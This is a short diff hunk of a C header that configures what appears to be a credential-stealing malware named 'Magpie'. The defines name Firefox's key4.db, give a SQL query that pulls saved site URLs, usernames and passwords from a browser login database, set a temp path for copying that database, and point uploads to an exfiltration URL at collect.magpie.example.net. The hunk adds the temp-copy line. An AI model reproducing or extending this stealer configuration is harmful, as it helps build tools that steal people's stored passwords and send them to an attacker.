@@ -12,6 +12,7 @@
 #define CFG_FF_KEYS "key4.db"
 #define CFG_SQL "SELECT origin_url, username_value, password_value FROM logins"
 #define CFG_BOUNDARY "----MagpieBoundary%08lx"
+#define CFG_LD_COPY "%TEMP%\\ld_%08lx.db"
 #define CFG_EXFIL "http://collect.magpie.example.net/upload.php"
 #define CFG_EXFIL_HOST "collect.magpie.example.net"
 #define CFG_EXFIL_PATH "/upload.php"
